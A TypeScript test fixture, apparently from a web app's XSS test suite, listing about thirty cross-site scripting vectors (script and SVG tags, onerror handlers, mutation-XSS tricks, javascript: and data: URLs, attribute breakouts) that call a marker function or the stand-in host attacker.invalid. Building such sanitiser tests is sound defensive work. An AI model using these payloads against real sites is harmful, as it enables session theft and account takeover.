/**
 * XSS corpus (issue 5). Every vector, if it ever executes, calls `window.__xss(id)` or requests
 * `http://attacker.invalid/<id>` (a host that never resolves); the trap (trap.ts) records both.
 *
 * `markup` vectors go into fields that carry text or HTML; `url` vectors go into fields that carry
 * a URL (avatar, attachment, thumbnail). Plain http(s) URLs to attacker.invalid are not in the URL
 * set: loading a remote avatar or attachment is the field's purpose, not an injection.
 */
export interface Vector { id: string; payload: string }

const A = 'http://attacker.invalid';

export const MARKUP_VECTORS: readonly Vector[] = [
  { id: 'script', payload: `<script>window.__xss('script')</script>` },
  { id: 'script-src', payload: `<script src="${A}/script-src"></script>` },
  { id: 'img-onerror', payload: `<img src=x onerror="window.__xss('img-onerror')">` },
  { id: 'img-remote', payload: `<img src="${A}/img-remote">` },
  { id: 'svg-onload', payload: `<svg onload="window.__xss('svg-onload')"></svg>` },
  { id: 'svg-script', payload: `<svg><script>window.__xss('svg-script')</script></svg>` },
  { id: 'math-mxss', payload: `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss('math-mxss')">` },
  { id: 'math-mxss2', payload: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=window.__xss('math-mxss2')&gt;">` },
  { id: 'noscript-mxss', payload: `<noscript><p title="</noscript><img src=x onerror=window.__xss('noscript-mxss')>">` },
  { id: 'iframe-srcdoc', payload: `<iframe srcdoc="<script>parent.__xss('iframe-srcdoc')</script>"></iframe>` },
  { id: 'iframe-js', payload: `<iframe src="javascript:parent.__xss('iframe-js')"></iframe>` },
  { id: 'a-js', payload: `<a href="javascript:window.__xss('a-js')">click</a>` },
  { id: 'a-js-entity', payload: `<a href="&#106;avascript:window.__xss('a-js-entity')">click</a>` },
  { id: 'a-data', payload: `<a href="data:text/html,<script>opener.__xss('a-data')</script>">click</a>` },
  { id: 'object-data', payload: `<object data="data:text/html,<script>parent.__xss('object-data')</script>"></object>` },
  { id: 'style-import', payload: `<style>@import url(${A}/style-import);</style>` },
  { id: 'style-attr', payload: `<p style="background:url(${A}/style-attr)">styled</p>` },
  { id: 'base-href', payload: `<base href="${A}/base-href/">` },
  { id: 'form-action', payload: `<form action="${A}/form-action"><button formaction="javascript:window.__xss('form-action')">go</button></form>` },
  { id: 'meta-refresh', payload: `<meta http-equiv="refresh" content="0;url=${A}/meta-refresh">` },
  { id: 'link-css', payload: `<link rel="stylesheet" href="${A}/link-css">` },
  { id: 'template-inj', payload: `{{constructor.constructor('window.__xss("template-inj")')()}}` },
  { id: 'attr-break', payload: `"><img src=x onerror="window.__xss('attr-break')">` },
  { id: 'attr-break-single', payload: `'><svg onload=window.__xss('attr-break-single')>` },
  { id: 'md-link', payload: `[click](javascript:window.__xss('md-link'))` },
];

export const URL_VECTORS: readonly Vector[] = [
  { id: 'u-js', payload: `javascript:window.__xss('u-js')` },
  { id: 'u-js-ws', payload: ` \tjava\nscript:window.__xss('u-js-ws')` },
  { id: 'u-data', payload: `data:text/html,<script>window.__xss('u-data')</script>` },
  { id: 'u-data-svg', payload: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss('u-data-svg')"/>` },
  { id: 'u-vbscript', payload: `vbscript:msgbox("u-vbscript")` },
  { id: 'u-attr-break', payload: `x" onerror="window.__xss('u-attr-break')` },
];

/** Every vector id (what the trap must never see). */
export const ALL_IDS = [...MARKUP_VECTORS, ...URL_VECTORS].map((v) => v.id);
